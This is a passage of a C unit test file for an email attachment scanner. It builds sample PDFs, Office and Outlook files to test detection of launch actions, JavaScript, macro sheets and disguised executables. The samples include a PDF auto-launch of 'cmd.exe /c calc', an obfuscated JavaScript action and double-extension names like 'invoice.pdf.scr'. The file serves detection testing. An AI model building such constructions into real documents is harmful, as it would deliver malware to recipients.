	for (tok = strtok_r(copy, ",", &save); tok;
	     tok = strtok_r(NULL, ",", &save))
		str_list_add(&types, tok);
	free(copy);
	memset(&c, 0, sizeof(c));
	c.extensions = &exts;
	c.types = &types;
	c.check_macros = true;
	c.check_archives = true;
	c.max_archive_depth = 3;
	c.max_archive_entries = 32;
	c.max_archive_member_size = 10 * 1024 * 1024;
	if (attach_policy_new(&c, &policy, &error) < 0) {
		fprintf(stderr, "%s\n", error);
		return -1;
	}
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	attach_policy_free(&policy);
	str_list_free(&exts);
	str_list_free(&types);
	return 0;
}

/* uudecode_body: "MZ" and "Cat" as uuencode(1) writes them, stopping at
 * "end" (consumed) or at the first line that is not uuencoding. */
static void
test_uudecode(void **state)
{
	static const struct {
		const char *text, *bytes;
		size_t len, consumed;
	} cases[] = {
	    {"\"35H`\r\n`\r\nend\r\nafter\r\n", "MZ", 2, 15},
	    {"#0V%T\n`\nend\n", "Cat", 3, 12},
	    {"#0V%T\nnot uuencoding\n", "Cat", 3, 6},
	    {"M0V%T\n", "", 0, 0},	   /* 45 bytes promised, 4 given */
	    {"#0V%T", "Cat", 3, 5},	   /* no end line */
	    {"#0V\x01T\nend\n", "", 0, 0}, /* a control byte */
	    {"", "", 0, 0},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct buf out;
		size_t used;

		buf_init(&out);
		used = uudecode_body((const unsigned char *)cases[i].text,
				     strlen(cases[i].text), &out);
		if (used != cases[i].consumed || out.len != cases[i].len ||
		    (out.len > 0 &&
		     memcmp(out.data, cases[i].bytes, out.len) != 0))
			fail_msg("case %zu: consumed %zu, %zu bytes", i, used,
				 out.len);
		buf_free(&out);
	}
}

/* A PDF of head, then a stream object of body (FlateDecode when
 * compressed) with dict, then tail. */
static unsigned char *
make_pdf(const char *head, const char *dict, const void *body, size_t blen,
	 bool compressed, const char *tail, size_t *len_r)
{
	struct buf b;
	unsigned char *z = NULL;
	uLongf zlen = compressBound(blen);
	unsigned char *out;

	buf_init(&b);
	buf_append_str(&b, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
	buf_append_str(&b, head);
	buf_append_str(&b, "\n5 0 obj\n<< ");
	buf_append_str(&b, dict);
	if (compressed) {
		z = xmalloc(zlen);
		assert_int_equal(compress2(z, &zlen, body, blen, 9), Z_OK);
		buf_append_str(&b, " /Filter /FlateDecode");
		body = z;
		blen = zlen;
	}
	buf_append_str(&b, " >>\nstream\r\n");
	buf_append(&b, body, blen);
	buf_append_str(&b, "\r\nendstream\nendobj\n");
	buf_append_str(&b, tail);
	buf_append_str(&b, "\n%%EOF\n");
	free(z);
	out = xmalloc(b.len);
	memcpy(out, b.data, b.len);
	*len_r = b.len;
	buf_free(&b);
	return out;
}

static void
check_pdf(const char *head, const char *dict, const void *body, size_t blen,
	  bool compressed, const enum attach_symbol *want, size_t nwant,
	  bool block)
{
	size_t len;
	unsigned char *pdf =
	    make_pdf(head, dict, body, blen, compressed, "", &len);

	check("doc.pdf", "application/pdf", pdf, len, want, nwant, block);
	free(pdf);
}

/* PDFs: launch actions, JavaScript (also with escaped names and inside
 * compressed object streams, not in page text) and embedded files. */
static void
test_pdf(void **state)
{
	static const char page[] = "BT /F1 12 Tf (see /JavaScript) Tj ET";
	static const char objstm[] =
	    "1 0 << /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";
	unsigned char *zip, *pdf;
	size_t zlen, plen;

	(void)state;
	check_pdf("1 0 obj << /Type /Catalog >> endobj", "/Length 36", page,
		  sizeof(page) - 1, true, NULL, 0, false);
	check_pdf("1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) /P "
		  "(/c calc) >> >> endobj",
		  "/Length 1", "x", 1, false,
		  W(ATTACH_SYM_PDF_LAUNCH, ATTACH_SYM_ARCHIVE_EXT), 2, true);
	check_pdf("1 0 obj << /OpenAction << /S /J#61vaScript /JS 2 0 R >> >> "
		  "endobj",
		  "/Length 1", "x", 1, false, W(ATTACH_SYM_PDF_JAVASCRIPT), 1,
		  false);
	check_pdf("", "/Type /ObjStm /N 1 /First 4", objstm, sizeof(objstm) - 1,
		  true, W(ATTACH_SYM_PDF_JAVASCRIPT), 1, false);
	/* An embedded zip holding a .exe, named in UTF-16 (/UF). */
	zip = make_zip((struct member[]){{"a.exe", text, sizeof(text)}}, 1,
		       false, &zlen);
	pdf =
	    make_pdf("1 0 obj << /Type /Filespec /UF <FEFF0072002E007A00690070>"
		     " /EF << /F 5 0 R >> >> endobj",
		     "/Type /EmbeddedFile", zip, zlen, true, "", &plen);
	check("doc.pdf", "application/pdf", pdf, plen,
	      W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	free(pdf);
	free(zip);
	/* An embedded file's blocked name. */
	check_pdf("1 0 obj << /Type /Filespec /F (invoice.pdf.scr) /EF << /F 5 "
		  "0 R >> >> endobj",
		  "/Type /EmbeddedFile", text, sizeof(text), true,
		  W(ATTACH_SYM_ARCHIVE_EXT, ATTACH_SYM_DOUBLE_EXT), 2, true);
	/* Cut short: no endstream. */
	check("cut.pdf", "application/pdf",
	      "%PDF-1.4\n1 0 obj << /Length 5 >>\nstream\nabc", 43, NULL, 0,
	      false);
}

/* Closes the OLE2 file ole, written into mem, and returns its bytes. */
static unsigned char *
ole_bytes(GsfOutput *mem, GsfOutfile *ole, size_t *len_r)
{
	unsigned char *out;

	gsf_output_close(GSF_OUTPUT(ole));
	g_object_unref(ole);
	*len_r = (size_t)gsf_output_size(mem);
	out = xmalloc(*len_r);
	memcpy(out, gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(mem)),
	       *len_r);
	gsf_output_close(mem);
	g_object_unref(mem);
	return out;
}

/* One attachment storage: its Unicode long file name and its data, and,
 * when inner_name is given, an Outlook item embedded in it with one
 * attachment of that name. */
static void
msg_add_attachment(GsfOutfile *parent, int index, const char *name,
		   const char *data, const char *inner_name)
{
	char storage[40];
	GsfOutfile *att;
	GsfOutput *s;
	gunichar2 wide[64];
	size_t n = strlen(name);

	snprintf(storage, sizeof(storage), "__attach_version1.0_#%08X", index);
	att = GSF_OUTFILE(gsf_outfile_new_child(parent, storage, TRUE));
	for (size_t i = 0; i < n && i < 63; i++)
		wide[i] = GUINT16_TO_LE((gunichar2)name[i]);
	s = gsf_outfile_new_child(att, "__substg1.0_3707001F", FALSE);
	gsf_output_write(s, 2 * n, (const guint8 *)wide);
	gsf_output_close(s);
	g_object_unref(s);
	s = gsf_outfile_new_child(att, "__substg1.0_37010102", FALSE);
	gsf_output_write(s, strlen(data), (const guint8 *)data);
	gsf_output_close(s);
	g_object_unref(s);
	if (inner_name != NULL) {
		GsfOutfile *item = GSF_OUTFILE(
		    gsf_outfile_new_child(att, "__substg1.0_3701000D", TRUE));

		msg_add_attachment(item, 0, inner_name, "inner", NULL);
		gsf_output_close(GSF_OUTPUT(item));
		g_object_unref(item);
	}
	gsf_output_close(GSF_OUTPUT(att));
	g_object_unref(att);
}

/* An Outlook item (.msg) with one attachment, written with libgsf. */
static unsigned char *
make_msg(const char *name, const char *data, const char *inner_name,
	 size_t *len_r)
{
	GsfOutput *mem = gsf_output_memory_new();
	GsfOutfile *ole = gsf_outfile_msole_new(mem);
	GsfOutput *subject =
	    gsf_outfile_new_child(ole, "__substg1.0_0037001F", FALSE);

	gsf_output_write(subject, 4, (const guint8 *)"H\0i\0");
	gsf_output_close(subject);
	g_object_unref(subject);
	msg_add_attachment(ole, 0, name, data, inner_name);
	return ole_bytes(mem, ole, len_r);
}

/* A legacy workbook (.xls) whose Workbook stream is BOF, one BOUNDSHEET
 * of sheet type dt (0 worksheet, 1 Excel 4.0 macro sheet), EOF. */
static unsigned char *
make_xls(unsigned char dt, size_t *len_r)
{
	static const unsigned char bof[] = {0x09, 0x08, 16, 0, 0, 6, 0x10,
					    0,	  0,	0,  0, 0, 0, 0,
					    0,	  0,	0,  0, 0, 0};
	unsigned char sheet[] = {0x85, 0, 9, 0, 0, 0, 0, 0, 0, 0, 1, 0, 'M'};
	static const unsigned char eof[] = {0x0a, 0, 0, 0};
	GsfOutput *mem = gsf_output_memory_new();
	GsfOutfile *ole = gsf_outfile_msole_new(mem);
	GsfOutput *book = gsf_outfile_new_child(ole, "Workbook", FALSE);

	sheet[9] = dt;
	gsf_output_write(book, sizeof(bof), bof);
	gsf_output_write(book, sizeof(sheet), sheet);
	gsf_output_write(book, sizeof(eof), eof);
	gsf_output_close(book);
	g_object_unref(book);
	return ole_bytes(mem, ole, len_r);
}

/* An OLE2 file with an ObjectPool storage holding one object whose
 * \1Ole10Native stream packages file name with data (a .doc's layout,
 * and an oleObject*.bin's without the pool). */
static unsigned char *
make_ole_package(const char *name, const char *data, size_t *len_r)
{
	GsfOutput *mem = gsf_output_memory_new();
	GsfOutfile *ole = gsf_outfile_msole_new(mem);
	GsfOutfile *pool =
	    GSF_OUTFILE(gsf_outfile_new_child(ole, "ObjectPool", TRUE));
	GsfOutfile *obj =
	    GSF_OUTFILE(gsf_outfile_new_child(pool, "_1234567890", TRUE));
	GsfOutput *s = gsf_outfile_new_child(obj, "\1Ole10Native", FALSE);
	char temp[128];
	guint8 u32[4];
	size_t total;

	snprintf(temp, sizeof(temp), "C:\\Temp\\%s", name);
	total = 2 + 2 * (strlen(name) + 1) + 4 + 4 + strlen(temp) + 1 + 4 +
		strlen(data);
#define PUT_U32(v)                                                             \
	do {                                                                   \
		u32[0] = (guint8)(v);                                          \
		u32[1] = (guint8)((v) >> 8);                                   \
		u32[2] = (guint8)((v) >> 16);                                  \
		u32[3] = (guint8)((v) >> 24);                                  \
		gsf_output_write(s, 4, u32);                                   \
	} while (0)
	PUT_U32(total);
	gsf_output_write(s, 2, (const guint8 *)"\2\0");
	gsf_output_write(s, strlen(name) + 1, (const guint8 *)name);
	gsf_output_write(s, strlen(name) + 1, (const guint8 *)name);
	PUT_U32(0x00030000u);
	PUT_U32(strlen(temp) + 1);
	gsf_output_write(s, strlen(temp) + 1, (const guint8 *)temp);
	PUT_U32(strlen(data));
	gsf_output_write(s, strlen(data), (const guint8 *)data);
#undef PUT_U32
	gsf_output_close(s);
	g_object_unref(s);
	gsf_output_close(GSF_OUTPUT(obj));
	g_object_unref(obj);
	gsf_output_close(GSF_OUTPUT(pool));
	g_object_unref(pool);
	return ole_bytes(mem, ole, len_r);
}

/* Files packaged as objects in Office documents, legacy and OOXML. */
static void
test_ole_packages(void **state)
{
	unsigned char *doc, *docx;
	size_t len, xlen;

	(void)state;
	doc = make_ole_package("run.exe", "hello", &len);
	check("memo.doc", "application/msword", doc, len,
	      W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	docx = make_zip(
	    (struct member[]){
		{"[Content_Types].xml", "<Types/>", 8},
		{"word/document.xml", "<w:document/>", 13},
		{"word/embeddings/oleObject1.bin", (const char *)doc, len}},
	    3, false, &xlen);
	check("memo.docx", NULL, docx, xlen, W(ATTACH_SYM_ARCHIVE_EXT), 1,
	      true);
	free(docx);
	free(doc);
	doc = make_ole_package("notes.txt", "hello", &len);
	check("memo.doc", "application/msword", doc, len, NULL, 0, false);
	free(doc);
}

/* Excel 4.0 macro sheets in a legacy workbook. */
static void
test_xls_macro_sheets(void **state)
{
	unsigned char *xls;
	size_t len;

	(void)state;
	xls = make_xls(1, &len);
	check("q3.xls", "application/vnd.ms-excel", xls, len,
	      W(ATTACH_SYM_MACRO), 1, true);
	free(xls);
	xls = make_xls(0, &len);
	check("q3.xls", "application/vnd.ms-excel", xls, len, NULL, 0, false);
	free(xls);
}

/* An OOXML document encrypted with a password: an OLE2 file with
 * EncryptionInfo and EncryptedPackage streams (with_package false: only
 * the first, which is no encrypted document). */
static unsigned char *
make_encrypted_docx(bool with_package, size_t *len_r)
{
	GsfOutput *mem = gsf_output_memory_new();
	GsfOutfile *ole = gsf_outfile_msole_new(mem);
	GsfOutput *s = gsf_outfile_new_child(ole, "EncryptionInfo", FALSE);

	gsf_output_write(s, 8, (const guint8 *)"\x04\0\x04\0\x40\0\0\0");
	gsf_output_close(s);
	g_object_unref(s);
	if (with_package) {
		s = gsf_outfile_new_child(ole, "EncryptedPackage", FALSE);
		gsf_output_write(s, 16,
				 (const guint8 *)"\x10\0\0\0\0\0\0\0"
						 "ciphertx");
		gsf_output_close(s);
		g_object_unref(s);
	}
	return ole_bytes(mem, ole, len_r);
}

/* Office documents encrypted with a password cannot be inspected. */
static void
test_encrypted_documents(void **state)
{
	unsigned char *doc;
	size_t len;

	(void)state;
	doc = make_encrypted_docx(true, &len);
	check("invoice.docx", NULL, doc, len, W(ATTACH_SYM_ENCRYPTED), 1,
	      false);
	free(doc);
	doc = make_encrypted_docx(false, &len);
	check("invoice.doc", NULL, doc, len, NULL, 0, false);
	free(doc);
}

/* Outlook items: their attachments, and those of items attached to them. */
static void
test_outlook_items(void **state)
{
	unsigned char *msg;
	size_t len;

	(void)state;
	msg = make_msg("setup.exe", "MZ", NULL, &len);
	assert_true(attach_msg_is(msg, len));
	check("fwd.msg", "application/vnd.ms-outlook", msg, len,
	      W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	free(msg);
	msg = make_msg("notes.txt", "hello", NULL, &len);
	check("fwd.msg", "application/vnd.ms-outlook", msg, len, NULL, 0,
	      false);
	free(msg);
	msg = make_msg("older.msg", "x", "run.js", &len);
	check("fwd.msg", NULL, msg, len, W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	free(msg);
	/* OLE2 without Outlook's streams is not read as an item. */
	msg = make_ole(false, &len);
	assert_false(attach_msg_is(msg, len));
	free(msg);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_extension),
	    cmocka_unit_test(test_files),
	    cmocka_unit_test(test_hidden_names),
	    cmocka_unit_test(test_active_content),
	    cmocka_unit_test(test_tnef),
	    cmocka_unit_test(test_encrypted_with_password),
	    cmocka_unit_test(test_limits),
	    cmocka_unit_test(test_full_report_keeps_the_block),
	    cmocka_unit_test(test_message),
	    cmocka_unit_test(test_message_other_names),
	    cmocka_unit_test(test_uudecode),
	    cmocka_unit_test(test_pdf),
	    cmocka_unit_test(test_outlook_items),
	    cmocka_unit_test(test_xls_macro_sheets),
	    cmocka_unit_test(test_ole_packages),
	    cmocka_unit_test(test_encrypted_documents),
	};

	mime_init();
	return cmocka_run_group_tests(tests, setup, teardown);
}
